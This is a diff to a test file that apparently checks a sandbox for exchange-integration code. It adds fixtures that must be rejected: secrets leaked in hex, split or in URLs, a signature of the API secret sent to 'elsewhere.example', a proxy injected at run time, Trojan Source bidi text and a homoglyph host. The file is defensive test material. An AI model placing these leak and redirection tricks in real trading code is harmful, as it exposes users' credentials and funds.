@@ -78,6 +78,37 @@ ATTACKS = [
     ("getter-in-literal", "return { get x () { return 1; } };", {"SUB-E016"}),
     ("arrow", "return [ 1 ].map ((x) => x);", {"SUB-E001"}),
     ("dynamic-import", "return import ('node:fs');", {"SUB-S002", "SUB-P001"}),
+    # The user's settings and the credentials: a proxy of the file's choosing sees every later request, and a
+    # secret replaced after copying it is no longer redacted from the messages that carry the copy.
+    ("proxy-at-run-time", "this.proxy = 'http://127.0.0.1:8080';\nreturn undefined;", {"SUB-B008"}),
+    ("secret-replaced", "const s = this.secret;\nthis.secret = 'x';\nthrow new ExchangeError (s);",
+     {"SUB-B008", "SUB-B009"}),
+    ("verbose-at-run-time", "this.verbose = true;\nreturn undefined;", {"SUB-B008"}),
+    ("host-header", "this.headers['Host'] = 'elsewhere.example';\nreturn undefined;", {"SUB-B008"}),
+    # No redaction finds a secret in hexadecimal or split into characters.
+    ("secret-in-hex", "throw new ExchangeError (this.binaryToBase16 (this.encode (this.secret)));", {"SUB-B009"}),
+    ("secret-split", "return { 'info': this.secret.split ('').join (' ') };", {"SUB-B009"}),
+    ("secret-in-url", "return await this.publicGetTicker ({ 'k': this.secret.slice (1) });", {"SUB-B009"}),
+    ("secret-as-hmac-data", "return this.hmac (this.encode (this.secret), this.encode ('k'));", {"SUB-B009"}),
+    ("secret-through-a-const", "const key = this.encode (this.secret);\nreturn this.binaryToBase64 (key);",
+     {"SUB-B009"}),
+    ("private-key-in-options", "this.options['k'] = this.privateKey;\nreturn undefined;", {"SUB-B009"}),
+    ("credentials-method", "return this.safeString (this.credentials (), 'secret');", {"SUB-B009"}),
+    # Node's raw transport requested any URL, below fetch's check of the origins: the key and a signature of the
+    # file's choosing (a signing oracle) went wherever the file said.
+    ("raw-transport", "const signature = this.hmac (this.encode ('withdraw'), this.encode (this.secret));\n"
+                      "return await this.send ('https://elsewhere.example/?s=' + signature, 'GET', {}, undefined);",
+     {"SUB-B006", "SUB-E019"}),
+    ("fetch-directly", "return await this.fetch ('https://api.example.com/', 'GET', {}, undefined);", {"SUB-B006"}),
+    ("log-the-key", "this.log (this.apiKey.split ('').join (' '));\nreturn undefined;", {"SUB-B006"}),
+    ("python-helper", "return this.request_headers ('GET', symbol, params);", {"SUB-B006"}),
+    ("stream-client", "return this.streamClient ('wss://elsewhere.example/');", {"SUB-B006"}),
+    # What reviewers read must be what runs: "Trojan Source" bidirectional controls, invisible characters, and a
+    # host whose Cyrillic letter names another domain than the one it shows.
+    ("trojan-source", "const isAdmin = false;\n/* \u202e } \u2066if (isAdmin)\u2069 \u2066 admins only */\n"
+                      "return isAdmin;", {"SUB-B010"}),
+    ("zero-width-key", "return { 'pri\u200bce': params };", {"SUB-B010"}),
+    ("homoglyph-host", "return 'https://api.kr\u0430ken.com/0/private';", {"SUB-B010"}),
 ]
 
 CLASS_ATTACKS = [
@@ -92,6 +123,18 @@ CLASS_ATTACKS = [
     ("php-magic-get", "__get (name) {\n    return name;\n}", {"SUB-B002"}),
     ("constructor", "constructor () {\n    super ();\n}", {"SUB-S003"}),
     ("getter", "get secretValue () {\n    return this.secret;\n}", {"SUB-S003"}),
+    # PHP's method names ignore case: this would be JsonSerializable's jsonSerialize, which json_encode calls.
+    ("php-json-serialize-lower-case", "jsonserialize () {\n    return { 'p': this.password };\n}", {"SUB-B006"}),
+    # describe () may not route, print or unbound the requests: those are the user's settings.
+    ("describe-proxy", "describe () {\n    return this.deepExtend (super.describe (), { 'id': 'example', "
+                       "'proxy': 'http://127.0.0.1:8080' });\n}", {"SUB-B008"}),
+    ("describe-proxy-written", "describe () {\n    const extra = { 'id': 'example' };\n    extra['proxy'] = "
+                               "'http://127.0.0.1:8080';\n    return this.deepExtend (super.describe (), extra);\n}",
+     {"SUB-B008"}),
+    ("describe-computed-key", "describe () {\n    const k = 'pro' + 'xy';\n    return this.deepExtend (super.describe (), "
+                              "{ 'id': 'example', [k]: 'http://127.0.0.1:8080' });\n}", {"SUB-B008"}),
+    ("describe-unbounded", "describe () {\n    return this.deepExtend (super.describe (), { 'id': 'example', "
+                           "'maxResponseSize': 1e15, 'timeout': 1e9 });\n}", {"SUB-B008"}),
 ]
 
 TOP_LEVEL_ATTACKS = [
@@ -185,8 +228,23 @@ def test_the_sealed_native_methods_are_those_of_every_native_layer():
                   "python/exchangekit/base/primitives.py", "php/base/NativeExchange.php", "php/base/Primitives.php"):
         text = open(os.path.join(ROOT, layer), encoding="utf-8").read()
         names = set(re.findall(r"\n    (?:async )?def (\w+)\(", text)) | set(re.findall(r"\n    (?:\w+ )*function (\w+)\(", text))
-        names = {snake_case(name) for name in names if not name.startswith("__")}  # PHP ignores the case
+        written = {name for name in names if not name.startswith("__")}
+        names = {snake_case(name) for name in written}
         assert names <= SEALED_SNAKE_CASE, f"{layer}: {sorted(names - SEALED_SNAKE_CASE)} not sealed"
+        # PHP's method names ignore case: jsonserialize, as an exchange method, would be PHP's jsonSerialize.
+        lower = {name.lower() for name in written}
+        assert lower <= SEALED_SNAKE_CASE, f"{layer}: {sorted(lower - SEALED_SNAKE_CASE)} not sealed in lower case"
+
+
+def test_the_raw_transport_is_private_in_node():
+    """fetch checks the origins and then sends; what sends may not be reachable without fetch's check."""
+    names = node_values(
+        "import { kraken } from './index.js';\n"
+        "const e = new kraken ({});\n"
+        "const names = [];\n"
+        "for (let p = e; p !== null; p = Object.getPrototypeOf (p)) { names.push (...Object.getOwnPropertyNames (p)); }\n"
+        "console.log (JSON.stringify (names));")
+    assert "send" not in names
 
 
 @pytest.mark.parametrize("method", ["throwError", "fetch", "__construct", "constructor", "fetch-ticker"])
